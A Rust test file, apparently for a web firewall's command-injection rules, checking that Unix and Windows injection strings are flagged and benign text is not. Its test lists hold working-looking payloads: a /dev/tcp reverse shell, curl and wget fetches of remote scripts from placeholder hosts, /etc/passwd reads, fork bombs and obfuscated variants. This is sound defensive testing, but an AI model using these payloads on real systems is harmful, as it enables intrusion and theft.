//! Tests of the command injection rules and code checks.

use super::super::builtin::testing::{fires, ids_at};

#[test]
fn unix_injection_after_separators_is_caught() {
    for v in [
        "1; cat /etc/passwd",
        "x|id",
        "127.0.0.1 && whoami",
        "a`uname -a`",
        "$(curl http://evil/x.sh)",
        ";ps",
        "1;w'h'o'am'i",
        "x;c\\at /e\\tc/pa\\sswd",
        "foo;wget${IFS}http://x/y",
        "ls -la /",
        "/bin/sh -c id",
        "bash -i >& /dev/tcp/1.2.3.4/80 0>&1",
        "() { :; }; /bin/bash -c id",
        "cat$IFS/etc/passwd",
        "c{a,oun}t",
        "{l,-lh}s",
        ":(){ :|:& };:",
        "alias a=id",
        "!-1!-2",
    ] {
        assert!(fires(v, "rce.", 1), "{v}: {:?}", ids_at(v, 4));
    }
}

#[test]
fn windows_injection_is_caught() {
    for v in [
        "x & cmd /c dir",
        "Invoke-WebRequest http://example.com/path/file.ps1",
        ";iwr http://example.com/file.ps1",
        "for %variable in (set) do command",
        "for /f %%i in ('dir') do echo",
        "if exist c:\\boot.ini echo",
        "; regedit /E c:\\a.reg HKEY_CURRENT_USER",
        "powershell -nop -w hidden -enc SQBFAFgAKABOAGUAdwA=",
    ] {
        assert!(fires(v, "rce.", 1), "{v}: {:?}", ids_at(v, 4));
    }
}

#[test]
fn prose_and_data_are_not_caught() {
    for v in [
        "a & b",
        "Tom & Jerry",
        "black & white | more",
        "salt & pepper; find out more",
        "cat food is great",
        "bash",
        "I ate; then slept",
        "O'Brien",
        "select a union rep",
        "rock & roll",
        "R&D",
        "price: $5 (approx)",
        "{a,b}",
        "Hello ${name}",
        "function () { return 1 }",
        "id",
        "sort -name",
        "it's 'quoted' text",
        "curl/7.68.0",
        "python-requests/2.31",
        "for each item in the list",
        "if not, then what",
    ] {
        assert!(!fires(v, "rce.", 1), "{v}: {:?}", ids_at(v, 1));
    }
}

use super::super::builtin::testing::hits_with;
use super::{expand, restricted_upload};
use crate::placement::scope;

fn fires_at(v: &str, sc: u32, pl: u8) -> bool {
    hits_with(v, sc, None)
        .iter()
        .any(|(id, p)| id.starts_with("rce.") && *p <= pl)
}

#[test]
fn commands_hidden_by_expansion_are_caught() {
    for v in [
        "www.example.com;c$!at /et$!c/pas$!swd",
        "x;c$?at+/et$?c/passwd",
        ";$a cat test.txt",
        "|$u wget test.sh",
        "a; sh$xx -c whoami",
        "a=/etc&&b=/passwd&&c=cat&&$c $a$b",
        "g=adduse[r];$g pizza",
        "v='u';c${v}r\\l example.com",
        "/bi[n]/bash -c id",
    ] {
        assert!(fires_at(v, scope::QUERY, 1), "{v}: {:?}", ids_at(v, 4));
    }
    assert_eq!(expand("a=cat;$a /x").as_deref(), Some("a=cat;cat /x"));
    assert_eq!(expand("c$!at"), Some("cat".to_string()));
    assert_eq!(expand("plain text"), None);
}

#[test]
fn new_command_idioms_are_caught() {
    for (v, pl) in [
        ("ansible-config dump", 2),
        ("cscli alerts list", 2),
        ("aa-disable php-fpm", 2),
        ("time ifconfig", 1),
        ("nohup ifconfig", 1),
        ("strace ifconfig", 1),
        ("time curl example.org", 1),
        ("pip install something", 2),
        (";date -f secrets.txt", 1),
        ("rc script.sh", 1),
        ("alias -p x=id", 1),
        ("alias +m a=b", 1),
        ("{,$'whoami',}", 1),
        ("image.jpg&bcdboot/r file.txt", 1),
        ("if \"a a\" == \"a a\" echo same", 1),
        ("if/i a==b foo", 1),
        ("f(){ f|f& };f", 2),
        ("1;.\\\"shell whoami", 2),
        (";\\n.databases", 2),
        (";gcc10.1<<<void main(){}", 2),
        (";vim x +silent\\ \\!whoami +wq", 1),
        ("\\ls", 1),
        (";who am i", 2),
        ("bin/cscli", 2),
        ("~-1", 1),
        ("${shell} -c \"echo hi\"", 1),
        ("a001 authenticate plain", 4),
    ] {
        let v = v.replace("a001", "\na001");
        assert!(fires_at(&v, scope::QUERY, pl), "{v}: {:?}", ids_at(&v, 4));
    }
}

#[test]
fn header_commands_are_caught_at_paranoia_2() {
    let ua = scope::HEADER | scope::USER_AGENT;
    let referer = scope::HEADER | scope::REFERER;
    for (v, sc) in [
        ("ansible all -m ping", ua),
        ("time ifconfig", ua),
        ("a=nc&&$a -nlvp 555", ua),
        (";env", ua),
        (";set", referer),
        (
            "https://www.example.com/?p=x#x=foo;cat$u+/etc$u/passwd",
            referer,
        ),
        ("www.example.com/?param=;/bin/ca?+/et*/passwd", referer),
        ("/bin/ca't'+/et*/passwd", referer),
        (":(){ :|:& };:", referer),
    ] {
        assert!(fires_at(v, sc, 2), "{v}: {:?}", hits_with(v, sc, None));
    }
    for (v, sc) in [
        (
            "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 Chrome/120.0",
            ua,
        ),
        ("curl/8.4.0", ua),
        ("python-requests/2.31.0", ua),
        ("Wget/1.21.3", ua),
        ("Go-http-client/1.1", ua),
        ("https://www.example.com/search?q=cat+food&hl=en", referer),
        ("https://github.com/org/repo/blob/main/bin/run.sh", referer),
        ("https://example.com/app#/users/12?tab=list", referer),
    ] {
        assert!(!fires_at(v, sc, 2), "{v}: {:?}", hits_with(v, sc, None));
    }
}

#[test]
fn configuration_file_uploads_are_caught_by_name() {
    let file = scope::BODY | scope::FILENAME;
    for v in [
        ".htaccess",
        "web.config",
        ".boto",
        "wp-config-php.bak",
        "wp-config_php.txt",
        "wp-config. php",
        "settings. php",
        "uploads/.user.ini",
        "authorized_keys",
    ] {
        assert!(fires_at(v, file, 1), "{v}");
    }
    assert_eq!(restricted_upload("config.yml "), Some(2));
    for v in [
        "photo.png",
        "report.docx",
        "C:\\Users\\me\\Documents\\report.docx",
        "config.json",
        "settings.png",
    ] {
        assert!(!fires_at(v, file, 2), "{v}");
    }
    // The same names as ordinary values are data, not uploads.
    assert!(!fires_at(".htaccess", scope::QUERY, 2));
}

#[test]
fn api_lookalikes_are_not_caught_at_paranoia_2() {
    for v in [
        "cat food; dog food",
        "ls -- a list",
        "Tom & Jerry",
        "echo chamber",
        "/usr/share is a path",
        "C:\\Program Files\\App\\app.exe",
        "Best;Top;New",
        "Salt;Pepper;Cat;Dog",
        "Who;What;Where",
        "Ready;Set;Go",
        "nice cat; cute dog",
        "red|green|top",
        "curl 20kg",
        "rpm 3000",
        "rsync vs scp",
        "time who",
        "~5 minutes",
        "$[0].name",
        "$.store.book[0].title",
        "/bookstore/book[price]/title",
        "Hello ${name}",
        "/[a-z]{1,5}/",
        "^[0-9]{3,4}$",
        "price: $5; total: $10",
        "Hello $name, your order #12 is ready; see details",
        "x=1;y=2;z=3",
        "a=b&c=$d",
        "sort=name;order=asc",
        "Wall Street's benchmark",
        "Mount Airy basketball coach",
        "Cut orange quarters into slices",
        "whoami",
        "lastlog",
        "python3.11 is out",
        "{\"a\":[1,2],\"b\":\"x\"}",
        "2024-01-01T10:00:00Z",
        "猫粮; 狗粮 | 更多",
        "SGVsbG8gd29ybGQ=",
    ] {
        assert!(!fires_at(v, scope::QUERY, 2), "{v}: {:?}", ids_at(v, 2));
    }
}

proptest::proptest! {
    #[test]
    fn expansion_never_panics_and_stays_bounded(s in "[ -~\t\n]{0,300}") {
        let f = crate::normalize::fold(&s);
        if let Some(x) = expand(&f) {
            proptest::prop_assert!(x.len() <= 2 * super::MAX_EXPAND + 64 * super::MAX_ASSIGNMENTS);
        }
        let _ = restricted_upload(&s);
        let _ = super::referer_parts(&s);
    }
}
